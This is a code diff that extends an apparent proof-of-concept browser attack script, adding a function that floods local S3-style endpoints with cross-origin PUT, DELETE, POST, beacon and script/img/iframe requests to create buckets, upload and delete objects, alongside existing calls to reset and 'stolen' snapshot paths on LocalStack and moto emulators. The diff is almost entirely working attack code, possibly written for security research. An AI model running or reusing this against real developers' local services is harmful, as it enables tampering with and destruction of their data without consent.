@@ -111,6 +111,23 @@ function* formWays(host, query) {
     yield opens(url, "noopener,noreferrer");
 }
 
+// S3's, which need no header: a bucket is made, what is in it is read, changed, posted to.
+function* restWays(host) {
+    for (const url of [`${host}/`, `${host}/called`, `${host}/called/key`, `${host}/called?delete`, `${host}/called/key?uploads`]) {
+        yield fetch(url, {method: "PUT"});
+        yield asks("PUT", url, {}, "");
+        yield fetch(url, {method: "DELETE"});
+        yield fetch(url, {method: "POST", mode: "no-cors", body: "<Delete/>"});
+        yield submits(url, "post", "multipart/form-data", [["key", "k"], ["file", "x"]]);
+        yield Promise.resolve(navigator.sendBeacon(url, "x"));
+        yield fetch(url, {mode: "no-cors"});
+        yield fetch(url);
+        yield loads("img", "src", url);
+        yield loads("script", "src", url);
+        yield loads("iframe", "src", url);
+    }
+}
+
 // Ours beside AWS's.
 function* pageWays(host) {
     for (const path of ["/_evpoc/reset", "/_localstack/state/reset", "/moto-api/reset", "/_evpoc/clock", "/_evpoc/snapshot?name=stolen"]) {
@@ -128,6 +145,7 @@ async function attack({hosts, targets, forms}) {
     for (const host of hosts) {
         for (const one of targets) tries.push(...targetWays(host, one));
         for (const one of forms) tries.push(...formWays(host, one));
+        tries.push(...restWays(host));
         tries.push(...pageWays(host));
     }
     const ends = await Promise.allSettled(tries);
